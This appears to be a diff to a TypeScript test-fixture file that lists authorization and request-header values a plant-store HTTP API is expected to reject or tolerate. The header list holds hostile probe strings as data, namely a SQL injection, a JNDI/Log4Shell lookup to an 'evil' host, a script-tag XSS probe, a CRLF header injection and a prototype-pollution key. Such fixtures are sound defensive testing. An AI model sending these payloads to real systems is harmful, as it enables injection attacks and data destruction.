@@ -1,5 +1,5 @@
 import { TOKEN } from '../support/token.js';
-import type { Field } from './request.js';
+import type { Field } from '../support/http/request.js';
 import { words } from './texts.js';
 
 // Values of the request line and the headers, as data.
@@ -16,15 +16,9 @@ export const ACCEPTED: readonly Field[] = [
 /** No credentials, those of another scheme, or no token after the scheme: 40100. */
 export const MISSING: readonly (Field | undefined)[] = [
   undefined,
-  ['Authorization', ''],
-  ['Authorization', 'Bearer'],
-  ['Authorization', 'Bearer   '],
-  ['Authorization', TOKEN],
-  ['Authorization', `Basic ${TOKEN}`],
-  ['Authorization', `Token ${TOKEN}`],
-  ['Authorization', `Bearer:${TOKEN}`],
-  ['Authorization', `Bearer${TOKEN}`],
-  ['Authorization', 'Digest username="a", realm="plant-store", nonce="b", response="c"'],
+  ...['', 'Bearer', 'Bearer   ', TOKEN, `Basic ${TOKEN}`, `Token ${TOKEN}`, `Bearer:${TOKEN}`]
+    .concat(`Bearer${TOKEN}`, 'Digest username="a", realm="plant-store", response="c"')
+    .map((value): Field => ['Authorization', value]),
   ['Cookie', `access_token=${TOKEN}; Authorization=Bearer ${TOKEN}`],
   ['X-Authorization', `Bearer ${TOKEN}`],
   ['Proxy-Authorization', `Bearer ${TOKEN}`],
@@ -160,29 +154,21 @@ export const EXTRA_FIELDS: readonly Field[] = (
     ['Accept', 'application/json;q=0, */*;q=0'],
     ['Accept', ';;;,,,'],
     ['Accept-Encoding', 'gzip, br'],
-    ['Accept-Charset', 'utf-16'],
     ['Connection', 'close'],
-    ['Content-MD5', 'x'],
     ['Cookie', 'a=b; __proto__=c; %=%'],
     ['Expect', '100-continue'],
-    ['Forwarded', 'for=evil;proto=https'],
-    ['Idempotency-Key', 'a'],
     ['If-Modified-Since', 'not a date'],
     ['Origin', 'https://evil.example'],
     ['Range', 'bytes=0-0'],
-    ['TE', 'trailers'],
     ['User-Agent', "'; DROP TABLE plants; --"],
     ['X-Forwarded-For', '127.0.0.1, ${jndi:ldap://evil}'],
     ['X-HTTP-Method-Override', 'DELETE'],
-    ['X-Original-URL', '/admin'],
     ['X-Cats', '🌵 Z͑ͫ ཊུད \u200b\u202e'],
     ['__proto__', 'a'],
     ['X-Request-Id', 'abc-123_DEF'],
     ['X-Request-Id', ''],
-    ['X-Request-Id', 'a b'],
     ['X-Request-Id', 'x'.repeat(2_000)],
-    ['X-Request-Id', '{"level":60}'],
-    ['X-Request-Id', '<script>alert(1)</script>é🌵'],
+    ['X-Request-Id', '<script>alert(1)</script> é🌵'],
     ['X-Request-Id', '%0d%0aSet-Cookie:a=b'],
   ] as const
 ).map(([name, value]) => [name, Buffer.from(value).toString('latin1')]);
